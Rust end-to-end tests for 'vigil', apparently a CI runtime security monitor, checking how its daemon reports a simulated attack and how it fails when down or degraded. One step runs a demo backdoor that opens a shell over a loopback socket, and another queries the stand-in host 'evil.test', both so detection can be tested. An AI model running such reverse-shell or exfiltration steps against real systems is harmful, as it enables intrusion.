//! Daemon mode, as the GitHub Action uses it: `vigil start` over a "runner" shell whose steps
//! are child processes carrying `GITHUB_ACTION`, then `vigil stop` and its reports (summary,
//! annotations, SARIF validated against the published schema, JSON Lines).

use std::{path::Path, process::Command};

use serde_json::Value;

use crate::harness::*;

/// Sends DNS queries for each name to a sink on 127.0.0.3:53 (loopback only).
const DNS_STEP: &str = r#"
import socket, struct, sys
sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sink.bind(("127.0.0.3", 53))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i, name in enumerate(sys.argv[1:]):
    q = struct.pack(">HHHHHH", 0x5000 + i, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    u.sendto(q + b"\0" + struct.pack(">HH", 1, 1), ("127.0.0.3", 53))
"#;

struct Job {
    state: std::path::PathBuf,
    stdout: String,
    stderr: String,
}

impl Job {
    /// The exit status a `NAME=STATUS` line of the runner script reported.
    fn status(&self, name: &str) -> i32 {
        self.stdout
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("no {name}= line in {}", self.stdout))
            .parse()
            .unwrap()
    }

    fn file(&self, name: &str) -> String {
        std::fs::read_to_string(self.state.join(name))
            .unwrap_or_else(|e| panic!("{name}: {e}\n{}", self.stderr))
    }
}

/// Runs `script` under bash as the job's runner (`$V`: vigil, `$S`: the state directory;
/// `$$`, the runner, is what the daemon watches), in the workspace.
fn run_job(name: &str, script: &str, args: &[&str]) -> Job {
    let state = scratch(name).join("state");
    let out = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "V={} S={}\n{script}",
            env!("CARGO_BIN_EXE_vigil"),
            state.display()
        ))
        .arg("runner")
        .args(args)
        .current_dir(workspace())
        .output()
        .unwrap();
    let job = Job {
        state,
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    eprintln!("--- job {name}\n{}\n{}", job.stdout, job.stderr);
    job
}

/// Validates a SARIF file against the SARIF 2.1.0 schema (`scripts/sarif-schema.sh` fetches
/// it from the npm registry once; `make e2e` does so first).
pub fn assert_valid_sarif(file: &Path) {
    let schema = workspace().join("target/sarif/sarif-schema-2.1.0.json");
    // Fetched (and its sha256 checked) by the script; the kernel-matrix guest has no network
    // and a read-only workspace, and uses the copy `make test-kernels` fetched first.
    if !schema.exists() {
        let fetched = Command::new(workspace().join("scripts/sarif-schema.sh"))
            .arg(&schema)
            .status()
            .unwrap();
        assert!(fetched.success(), "could not get the SARIF schema");
    }
    let out = Command::new("python3")
        .arg(workspace().join("tests/e2e/validate_sarif.py"))
        .arg(&schema)
        .arg(file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{} is not valid SARIF 2.1.0:\n{}{}",
        file.display(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn daemon_attributes_an_attack_to_its_step_and_reports_it() {
    if !privileged() {
        return;
    }
    let listener = Listener::start("echo daemon-e2e-$((6*7)); exit\n");
    let port = listener.port.to_string();
    let job = run_job(
        "daemon-attack",
        r#"
$V start --state $S --watch-pid $$ --egress-allow '*.allowed.test' --egress-allow 10.0.0.0/8
echo start=$?
export GITHUB_JOB=build GITHUB_WORKFLOW=ci
GITHUB_ACTION=__run_1 python3 demo/app.py
GITHUB_ACTION=__run_2 python3 -c "$1" evil.test ok.allowed.test
GITHUB_ACTION=__run_3 bash -c "python3 demo/backdoor.py 127.0.0.1 $2; true"
$V stop --state $S --summary $S/summary.md --sarif $S/out.sarif --findings $S/copy.jsonl \
    --annotations > $S/annotations.txt
echo stop=$?
$V stop --state $S
echo again=$?
"#,
        &[DNS_STEP, &port],
    );
    assert!(
        listener.transcript().contains("daemon-e2e-42"),
        "the shell ran"
    );
    assert_eq!(job.status("start"), 0);
    assert_eq!(job.status("stop"), EXIT_FINDING, "the attack fails the job");
    assert_eq!(
        job.status("again"),
        EXIT_FINDING,
        "a second stop reports the same"
    );
    assert!(job
        .stderr
        .contains("an earlier `vigil stop` ended the daemon; reporting its outcome again"));

    let findings: Vec<Value> = job
        .file("copy.jsonl")
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let shells = by_signature(&findings, "VGL-0001");
    assert_eq!(shells.len(), 1, "{findings:#?}");
    assert_eq!(
        findings.len(),
        1,
        "the honest step found nothing: {findings:#?}"
    );
    let step = &shells[0]["process"]["step"];
    assert_eq!(step["action"], "__run_3");
    assert_eq!(step["job"], "build");
    assert_eq!(step["workflow"], "ci");

    let summary = job.file("summary.md");
    assert!(
        summary.contains("## Vigil: **1 finding(s)**, 1 at or above `medium`"),
        "{summary}"
    );
    assert!(summary.contains("| ✅ armed | 1 |"), "{summary}");
    assert!(
        summary.contains("#### Step `__run_3` (job `build`)"),
        "{summary}"
    );
    assert!(
        summary.contains(&format!("evidence: `remote=127.0.0.1:{port}")),
        "{summary}"
    );
    assert!(summary.contains("ancestry: `python3("), "{summary}");
    assert!(summary.contains("| `__run_2` | DNS name | `evil.test` | 1 | `python3` | ⚠️ outside |"));
    assert!(summary.contains("| `__run_2` | DNS name | `ok.allowed.test` | 1 | `python3` | ok |"));
    assert!(summary.contains(&format!(
        "| `__run_3` | address | `127.0.0.1:{port}` | 1 | `python3` | ⚠️ outside |"
    )));
    assert!(summary.contains("| VGL-0001 | Standard input/output over socket |"));

    let annotations = job.file("annotations.txt");
    let first = annotations.lines().next().unwrap();
    assert!(
        first
            .starts_with("::error title=Vigil VGL-0001 Standard input/output over socket (high)::"),
        "{annotations}"
    );
    assert!(first.contains("in step __run_3"), "{first}");
    assert!(annotations.contains(
        "::warning title=Vigil egress outside egress-allow::step __run_2 contacted evil.test"
    ));
    assert!(!annotations.contains("ok.allowed.test"));

    let sarif: Value = serde_json::from_str(&job.file("out.sarif")).unwrap();
    assert_eq!(sarif["runs"][0]["results"][0]["ruleId"], "VGL-0001");
    assert_eq!(
        sarif["runs"][0]["results"][0]["properties"]["step"],
        "__run_3"
    );
    assert_valid_sarif(&job.state.join("out.sarif"));

    let result: Value = serde_json::from_str(&job.file("result.json")).unwrap();
    assert_eq!(result["status"], "armed");
    assert_eq!(result["findings"], 1);
    assert_eq!(result["exit_status"], EXIT_FINDING);
}

#[test]
fn daemon_killed_mid_job_makes_stop_fail_down() {
    if !privileged() {
        return;
    }
    let job = run_job(
        "daemon-killed",
        r#"
$V start --state $S --watch-pid $$
echo start=$?
GITHUB_ACTION=__run_1 python3 demo/app.py
kill -9 $(cut -d' ' -f1 $S/vigil.pid)
GITHUB_ACTION=__run_2 python3 demo/app.py
$V stop --state $S --summary $S/summary.md --sarif $S/out.sarif --annotations > $S/annotations.txt
echo stop=$?
$V stop --state $S --allow-degraded
echo allowed=$?
"#,
        &[],
    );
    assert_eq!(job.status("start"), 0);
    assert_eq!(job.status("stop"), EXIT_VIGIL_ERROR, "down fails the job");
    assert_eq!(job.status("allowed"), 0, "unless degraded runs are allowed");
    assert!(
        job.stderr.contains("vigil: DOWN: the daemon (pid "),
        "{}",
        job.stderr
    );
    assert!(job.stderr.contains("died or was killed"));
    let summary = job.file("summary.md");
    assert!(summary.contains("Vigil was **down**"), "{summary}");
    assert!(summary.contains("❌ down"));
    // What it had loaded before it died is still listed.
    assert!(summary.contains("| VGL-0001 |"), "{summary}");
    assert!(job
        .file("annotations.txt")
        .starts_with("::error title=Vigil was down::"));
    let result: Value = serde_json::from_str(&job.file("result.json")).unwrap();
    assert_eq!(result["status"], "down");
    assert_valid_sarif(&job.state.join("out.sarif"));
}

#[test]
fn start_fails_clearly_and_in_bounded_time() {
    if !privileged() {
        return;
    }
    let job = run_job(
        "daemon-refusals",
        r#"
$V start --state $S --watch-pid 999999999; echo nopid=$?
$V start --state $S --egress-allow 'not a host'; echo badpattern=$?
$V start --state $S --watch-pid $$ --signatures /nonexistent-vigil-dir; echo badsigs=$?
$V start --state $S --watch-pid $$ --ready-timeout-secs 0; echo timeout=$?
$V stop --state $S; echo stop=$?
"#,
        &[],
    );
    for name in ["nopid", "badpattern", "badsigs", "timeout", "stop"] {
        assert_eq!(job.status(name), EXIT_VIGIL_ERROR, "{name}");
    }
    let e = &job.stderr;
    assert!(e.contains("--watch-pid 999999999: no such process"), "{e}");
    assert!(e.contains("--egress-allow \"not a host\""), "{e}");
    assert!(
        e.contains("the Vigil daemon could not arm: --signatures /nonexistent-vigil-dir: cannot read directory"),
        "{e}"
    );
    assert!(e.contains("did not arm within 0 s"), "{e}");
    // The timed-out daemon was stopped: nothing is left to stop.
    assert!(e.contains("vigil: DOWN:"), "{e}");
}

#[test]
fn degraded_daemon_fails_the_job_unless_allowed() {
    if !privileged() {
        return;
    }
    let trap = fixture_dir("vigil-fixture-trap-signature");
    let job = run_job(
        "daemon-degraded",
        r#"
$V start --state $S --watch-pid $$ --signatures "$1"
echo start=$?
GITHUB_ACTION=__run_1 sh -c true
$V stop --state $S --summary $S/summary.md --annotations > $S/annotations.txt
echo stop=$?
$V stop --state $S --allow-degraded
echo allowed=$?
"#,
        &[trap.to_str().unwrap()],
    );
    assert_eq!(job.status("start"), 0);
    assert_eq!(
        job.status("stop"),
        EXIT_VIGIL_ERROR,
        "degraded fails closed"
    );
    assert_eq!(job.status("allowed"), 0);
    let summary = job.file("summary.md");
    assert!(summary.contains("| ⚠️ degraded |"), "{summary}");
    assert!(summary.contains("> Vigil was degraded: "), "{summary}");
    assert!(
        summary.contains("| TEST-TRAP | Traps on purpose |"),
        "{summary}"
    );
    assert!(job
        .file("annotations.txt")
        .starts_with("::warning title=Vigil was degraded::"));
    let result: Value = serde_json::from_str(&job.file("result.json")).unwrap();
    assert_eq!(result["status"], "degraded");
}

#[test]
fn start_watches_the_nearest_runner_worker_by_default() {
    if !privileged() {
        return;
    }
    // A shell whose comm is Runner.Worker plays the GitHub runner; `vigil start` runs two
    // processes below it, without --watch-pid.
    let dir = scratch("daemon-runner-worker");
    let worker = dir.join("Runner.Worker");
    std::fs::copy("/bin/bash", &worker).unwrap();
    let state = dir.join("state");
    let out = Command::new(&worker)
        .arg("-c")
        .arg(
            r#"echo worker=$$
bash -c '"$0" start --state "$1"; echo start=$?' "$V" "$S"
GITHUB_ACTION=__run_1 sh -c 'cat /etc/hostname > /dev/null'
"$V" stop --state "$S"; echo stop=$?"#,
        )
        .env("V", env!("CARGO_BIN_EXE_vigil"))
        .env("S", &state)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    eprintln!("{stdout}\n{stderr}");
    let worker_pid = stdout
        .lines()
        .find_map(|l| l.strip_prefix("worker="))
        .unwrap();
    assert!(
        stdout.contains("start=0") && stdout.contains("stop=0"),
        "{stdout}"
    );
    assert!(
        stderr.contains(&format!("watching pid {worker_pid} and its descendants")),
        "{stderr}"
    );
}
